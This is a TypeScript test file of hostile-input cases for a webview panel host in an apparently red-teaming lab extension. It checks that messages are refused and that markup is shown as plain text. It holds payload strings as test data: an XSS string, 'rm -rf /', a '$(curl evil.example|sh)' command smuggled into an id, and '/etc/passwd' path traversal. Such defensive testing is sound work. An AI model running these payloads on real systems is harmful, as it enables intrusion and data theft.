/**
 * Messages from a panel (a webview: a compromised or buggy page is someone else's input to the host)
 * and the panel worker's jobs. What held (shape validation, plain adapter folder names) and what
 * issue 12 adds: exchange ids checked, adapter folders that are links refused, and Cancel that works
 * even when a job never looks at the cancel flag.
 */
import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { PanelSession, type PanelServices } from '../../extension/host/panel-session';
import { JobCancelled, PanelWorkerClient } from '../../extension/panel-worker/client';
import { RunWriter, runLayout } from '../../extension/rundir';
import type { HostMessage } from '../../webview/protocol';
import { launchBrowser, openPanel } from '../webview/harness/browser';
import { buildPanels } from '../webview/harness/build';
import { FakeHost } from '../webview/harness/fake-host';
import { startPanelServer } from '../webview/harness/server';
import type { BadInputCase } from './harness';

/** Markup an attacker policy (or a colleague) may put in an exchange: must be shown as the text it is. */
const HOSTILE_HTML = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script><a href="command:workbench.action.terminal.new">click</a>';

const NEW_RUN = { id: 'run-a', name: 'run-a', mode: 'bipolicy' as const, engine: 'ort', base_model: 'builtin:sandbox', rounds_planned: 1, roles: ['attacker', 'defender'], config: {} };

interface Session {
  session: PanelSession;
  sent: HostMessage[];
  calls: string[];
  run: string;
}

/** A panel session over one real run, with an engine that records what reaches it. */
function session(dir: string): Session {
  const w = RunWriter.create(path.join(dir, 'runs'), NEW_RUN, { pid: 2 ** 22 + 7, host: 'elsewhere' });
  w.completeRound(0, { steps: null, roles: [], metrics: {}, exchanges: 0 });
  const sent: HostMessage[] = [];
  const calls: string[] = [];
  const engine: NonNullable<PanelServices['panelWorker']> = {
    adapterDiff: (l, r) => {
      calls.push(`diff ${l} ${r}`);
      return { id: 1, result: Promise.reject(new Error('not in this test')) };
    },
    replay: (input) => {
      calls.push(`replay ${input.exchange}`);
      return { id: 2, result: Promise.reject(new Error('not in this test')) };
    },
    cancel: () => {},
  };
  const s = new PanelSession((m) => void sent.push(m), {
    runs: { summaries: () => [], sweeps: () => [], dirOf: (key) => (key === 'run-a' ? w.dir : undefined) },
    panelWorker: engine,
    annotate: (_d, _r, x) => void calls.push(`annotate ${x}`),
    log: () => {},
  });
  return { session: s, sent, calls, run: w.dir };
}

const lastError = (s: Session) => {
  const errors = s.sent.filter((m): m is Extract<HostMessage, { type: 'error' }> => m.type === 'error');
  return errors[errors.length - 1]?.message ?? '';
};

/** Sends `message`; returns the error the panel got and whether anything reached the engine or the editor. */
async function send(dir: string, message: unknown): Promise<{ error: string; calls: string[] }> {
  const s = session(dir);
  await s.session.receive(message);
  return { error: lastError(s), calls: s.calls };
}

const refused = (pattern: RegExp) => (r: unknown) => {
  const { error, calls } = r as { error: string; calls: string[] };
  assert.match(error, pattern);
  assert.deepEqual(calls, [], 'nothing reached the engine or the editor');
};

export const cases: BadInputCase[] = [
  {
    name: 'an exchange whose attack and answer are HTML and script: the stepper shows them as text, runs nothing, breaks no CSP (held)',
    setup: (dir) => {
      const w = RunWriter.create(path.join(dir, 'runs'), { ...NEW_RUN, id: 'hostile' }, { pid: 2 ** 22 + 8, host: 'elsewhere' });
      w.completeRound(0, { steps: null, roles: [], metrics: {}, exchanges: 0 });
      w.exchange({
        id: 'r0001-s000001-000',
        round: 1,
        step: 1,
        seed: { prompt: HOSTILE_HTML, harmful: true },
        attacked: true,
        turns: [{ attacker: { thought: HOSTILE_HTML, text: HOSTILE_HTML, raw: HOSTILE_HTML }, defender: { thought: null, text: HOSTILE_HTML, raw: HOSTILE_HTML } }],
        judge: { prompt_harmful: true, refusal: false, response_harmful: true, unparsable: false },
        rewards: { attacker: 1, defender: -1 },
        adapters: {},
      });
      w.completeRound(1, { steps: [1, 1], roles: [], metrics: {}, exchanges: 1 });
      return path.join(dir, 'runs');
    },
    act: async (_dir, runs) => {
      const server = await startPanelServer(await buildPanels());
      const browser = await launchBrowser();
      try {
        const p = await openPanel(browser, server, 'stepper', new FakeHost({ runsFolder: runs as string, focus: { runs: ['hostile'] } }));
        await p.page.waitForSelector('article.exchange');
        const shown = (await p.page.textContent('[data-part="attacker-text"]')) ?? '';
        const injected = await p.page.$$eval('article.exchange img, article.exchange script, article.exchange a[href^="command:"]', (els) => els.length);
        const pwned = await p.page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned ?? 0);
        return { shownAsText: shown.includes(HOSTILE_HTML), injected, pwned, problems: p.problems };
      } finally {
        await browser.close();
        await server.close();
      }
    },
    expect: { handled: (r) => assert.deepEqual(r, { shownAsText: true, injected: 0, pwned: 0, problems: [] }) },
    deadlineMs: 90_000,
    heapMb: 512,
  },
  {
    name: 'a message that is not an object: ignored with an error the panel shows (held)',
    act: (dir) => send(dir, 'rm -rf /'),
    expect: { handled: refused(/ABSP Lab ignored a message from this panel/) },
  },
  {
    name: 'an unknown message type (held)',
    act: (dir) => send(dir, { type: 'exec', command: 'id' }),
    expect: { handled: refused(/ABSP Lab ignored a message from this panel/) },
  },
  {
    name: 'an annotate request whose exchange id holds a shell expansion: refused before the editor',
    act: (dir) => send(dir, { type: 'annotate', run: 'run-a', round: 0, exchange: '$(curl evil.example|sh)' }),
    expect: { handled: refused(/exchange: must be an exchange id/) },
  },
  {
    name: 'a replay request whose exchange id is a path: refused before the engine',
    act: (dir) => send(dir, { type: 'replay', requestId: 'q1', run: 'run-a', round: 0, exchange: '../../../etc/passwd', adapterRound: 0 }),
    expect: { handled: refused(/exchange: must be an exchange id/) },
  },
  {
    name: 'an adapter diff naming a slot "../../.." (held)',
    act: (dir) => send(dir, { type: 'adapter-diff', requestId: 'q2', left: { run: 'run-a', round: 0, slot: '../../..' }, right: { run: 'run-a', round: 0, slot: 'defender' } }),
    expect: { handled: refused(/slot: must be an adapter folder name/) },
  },
  {
    name: 'an adapter diff of a slot that is a link out of the run: refused, nothing read',
    act: async (dir) => {
      const s = session(dir);
      const outside = path.join(dir, 'outside-adapter');
      fs.mkdirSync(outside);
      fs.symlinkSync(outside, path.join(runLayout(s.run).round(0), 'defender'));
      fs.mkdirSync(path.join(runLayout(s.run).round(0), 'attacker'));
      await s.session.receive({ type: 'adapter-diff', requestId: 'q3', left: { run: 'run-a', round: 0, slot: 'attacker' }, right: { run: 'run-a', round: 0, slot: 'defender' } });
      return { error: lastError(s), calls: s.calls };
    },
    expect: { handled: refused(/round-0000\/defender: is not a folder of this run \(missing, or a symbolic link\)/) },
  },
  {
    name: 'a request for a run the host does not know (held)',
    act: (dir) => send(dir, { type: 'request-transcript', run: '/etc', round: 0 }),
    expect: { handled: refused(/ABSP Lab does not know a run \/etc/) },
  },
  {
    name: 'a negative round (held)',
    act: (dir) => send(dir, { type: 'request-transcript', run: 'run-a', round: -1 }),
    expect: { handled: refused(/round/) },
  },
  {
    name: 'a panel worker job that never checks the cancel flag: Cancel still ends it (the thread is ended)',
    setup: (dir) => {
      const script = path.join(dir, 'stuck-worker.js');
      // A job stuck in one synchronous call (as a hostile regex once made the adapter reader).
      fs.writeFileSync(script, "require('node:worker_threads').parentPort.on('message', () => { for (;;) {} });\n");
      return script;
    },
    act: async (_dir, script) => {
      const client = new PanelWorkerClient({ workerScript: script as string, cancelGraceMs: 300 });
      const job = client.submit({ type: 'adapter-diff', left: 'a', right: 'b', baseModel: null });
      const t = performance.now();
      setTimeout(() => client.cancel(job.id), 100);
      let outcome = 'resolved';
      try {
        await job.result;
      } catch (e) {
        outcome = e instanceof JobCancelled ? 'cancelled' : (e as Error).message;
      }
      const ms = performance.now() - t;
      await client.dispose();
      return { outcome, ms };
    },
    expect: {
      handled: (r) => {
        const { outcome, ms } = r as { outcome: string; ms: number };
        assert.equal(outcome, 'cancelled');
        assert.ok(ms < 2000, `cancelled after ${ms} ms`);
      },
    },
  },
];
